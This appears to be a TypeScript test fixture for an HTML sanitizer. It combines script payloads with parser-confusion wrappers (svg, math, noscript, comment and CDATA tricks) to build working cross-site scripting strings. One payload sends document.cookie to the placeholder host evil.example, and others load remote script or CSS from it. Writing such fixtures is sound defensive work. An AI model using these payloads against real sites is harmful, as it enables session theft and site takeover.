const SCRIPTS = [
  'alert(1)',
  'fetch("https://evil.example/"+document.cookie)',
  'top["al"+"ert"](1)',
  'eval(atob("YWxlcnQoMSk="))',
]

const SCRIPT_PLACES = [
  (script: string) => `<script>${script}</script>`,
  (script: string) => `<SCRIPT>${script}</SCRIPT >`,
  (script: string) => `<script\n>${script}</script\n>`,
  (script: string) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  (script: string) => `<script src="https://evil.example/a.js"></script>${script}`,
  (script: string) => `<svg><script>${script}</script></svg>`,
  (script: string) => `<svg><style><img src=x onerror='${script}'></style></svg>`,
  (script: string) => `<math><mtext><table><mglyph><style><img src=x onerror='${script}'>`,
  (script: string) => `<noscript><p title="</noscript><img src=x onerror='${script}'>">`,
  (script: string) => `<textarea><img title="</textarea><img src=x onerror='${script}'>">`,
  (script: string) => `<title><img title="</title><script>${script}</script>">`,
  (script: string) => `<!--><script>${script}</script>-->`,
  (script: string) => `<!-- --!><script>${script}</script>-->`,
  (script: string) => `<![CDATA[><script>${script}</script>]]>`,
  (script: string) => `<template><script>${script}</script></template>`,
  (script: string) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script: string) => `<xmp><script>${script}</script></xmp>`,
  (script: string) =>
    `<style>@import 'https://evil.example/a.css';</style><p style="x:expression(${script})">`,
  (script: string) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror='${script}'>`,
]

/** Returns HTML with scripts in it, each script in each place that a reader of HTML may take for another. */
export const liveScripts = (): ReadonlyArray<string> => SCRIPT_PLACES.flatMap((place) => SCRIPTS.map(place))
